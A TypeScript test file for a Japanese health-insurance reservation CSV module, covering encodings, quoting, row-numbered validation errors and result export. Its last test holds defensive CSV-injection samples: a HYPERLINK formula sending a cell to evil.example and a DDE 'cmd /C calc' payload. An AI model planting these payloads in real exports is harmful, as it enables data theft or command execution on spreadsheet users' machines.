/** The reservation CSV (encodings, RFC 4180, header, row-numbered problems) and the results order and export. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { encodeCp932, isOnshiError } from '@onshi/core';
import { checkCsv, encodeCsv, parseCsv } from './station.batch.csv.ts';
import { type BatchResultRow, filterResults, orderResults, resultsCsv } from './station.batch.ts';

const utf8 = (text: string) => new TextEncoder().encode(text);

describe('reservation CSV', () => {
  it('reads UTF-8 with a BOM, quoted cells with commas, quotes and line breaks, CRLF or LF', () => {
    assert.deepEqual(parseCsv('a,"b,""c"""\r\n\r\n"x\ny",z\n'), [
      { row: 1, cells: ['a', 'b,"c"'] },
      { row: 3, cells: ['x\ny', 'z'] },
    ]);
    const checked = checkCsv(
      'confirm',
      utf8('\uFEFF予約日,保険者番号,番号,生年月日,枝番\n2024/6/1,6139992,1,1990-05-05,1\n'),
    );
    assert.equal(checked.encoding, 'utf-8');
    assert.deepEqual(checked.problems, []);
    // A spreadsheet's dropped zeros come back: 06139994 and 枝番 01.
    assert.equal(checked.rows[0]!.insurerNumber, '06139992');
    assert.equal(checked.rows[0]!.branch, '01');
    assert.equal(checked.rows[0]!.date, '2024-06-01');
  });

  it('reads Shift_JIS and names every problem by row and column', () => {
    const text =
      '資格確認日,保険者番号,記号,番号,生年月日,限度額同意\r\n2024-06-01,06139995,記号,1,1990-05-05,あり\r\n,06139992,,,19900231,x\r\n';
    const checked = checkCsv('confirm', encodeCp932(text));
    assert.equal(checked.encoding, 'shift_jis');
    assert.deepEqual(
      checked.problems.map((p) => [p.row, p.column, p.code]),
      [
        [2, '保険者番号', 'INSURER_NUMBER_INVALID'],
        [3, '資格確認日', 'MSG_FIELD_REQUIRED'],
        [3, '番号', 'MSG_FIELD_REQUIRED'],
        [3, '生年月日', 'DATE_INVALID'],
        [3, '限度額同意', 'MSG_FIELD_INVALID'],
      ],
    );
    assert.deepEqual(checked.invalidRows, [2, 3]);
  });

  it('refuses a file without the required columns, with a broken quote, or in neither encoding', () => {
    const code = (fn: () => unknown) => {
      try {
        fn();
      } catch (error) {
        return isOnshiError(error) ? error.code : String(error);
      }
      return 'none';
    };
    assert.equal(
      code(() => checkCsv('confirm', utf8('保険者番号,番号\n'))),
      'TERMINAL_CSV_HEADER_INVALID',
    );
    assert.equal(
      code(() => checkCsv('confirm', utf8(''))),
      'TERMINAL_CSV_HEADER_INVALID',
    );
    assert.equal(
      code(() => parseCsv('a,"b\n')),
      'TERMINAL_CSV_MALFORMED',
    );
    assert.equal(
      code(() => parseCsv('a,"b"c\n')),
      'TERMINAL_CSV_MALFORMED',
    );
    assert.equal(
      code(() => checkCsv('confirm', new Uint8Array([0x81, 0x20, 0xff]))),
      'TERMINAL_CSV_ENCODING',
    );
  });
});

describe('batch results', () => {
  const rows: BatchResultRow[] = [
    { row: 2, outcome: 'valid', problem: false, name: '試験　太郎' },
    { row: 3, outcome: 'limitChanged', problem: true },
    { row: 4, outcome: 'notFound', problem: true },
    { row: 5, outcome: 'error', problem: true, code: 'DATE_INVALID' },
    { row: 6, outcome: 'rejected', problem: true },
    { row: 7, outcome: 'invalid', problem: true },
  ];

  it('puts the problems first in outcome order, then by row; filters by outcome', () => {
    assert.deepEqual(
      orderResults(rows).map((r) => r.row),
      [6, 5, 7, 4, 3, 2],
    );
    assert.equal(filterResults(rows, 'problems').length, 5);
    assert.deepEqual(
      filterResults(rows, 'notFound').map((r) => r.row),
      [4],
    );
  });

  it('exports UTF-8 with a BOM (for Excel) or Shift_JIS', () => {
    const text = resultsCsv('confirm', rows.slice(0, 1));
    assert.equal(text.split('\r\n')[1], '2,有効,,,,,,,,試験　太郎,,,0,,');
    const bom = encodeCsv(text, 'utf-8');
    assert.deepEqual([...bom.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const sjis = encodeCsv(`${text}𠮷`, 'shift_jis');
    assert.ok(new TextDecoder('shift_jis').decode(sjis).endsWith('試験　太郎,,,0,,\r\n?'));
  });

  it('neutralises cells a spreadsheet would run as a formula (CSV injection)', () => {
    const hostile: BatchResultRow[] = [
      {
        row: 2,
        outcome: 'valid',
        problem: false,
        identifier: '=HYPERLINK("http://evil.example/?"&B2,"開く")',
        name: '+1+cmd|" /C calc"!A0',
        kana: '-2+3',
        message: '@SUM(A1:A2)',
        code: '\t=1',
        symbol: '＝1+1',
      },
    ];
    const line = resultsCsv('confirm', hostile).split('\r\n')[1]!;
    const cells = parseCsv(`${line}\r\n`)[0]!.cells;
    for (const cell of [cells[2], cells[5], cells[9], cells[10], cells[13], cells[14]]) {
      assert.ok(cell?.startsWith("'"), `not neutralised: ${cell}`);
    }
    assert.equal(cells[2], `'=HYPERLINK("http://evil.example/?"&B2,"開く")`);
    assert.equal(cells[0], '2', 'numbers stay numbers');
    assert.equal(resultsCsv('confirm', rows.slice(0, 1)).split('\r\n')[1], '2,有効,,,,,,,,試験　太郎,,,0,,');
  });
});
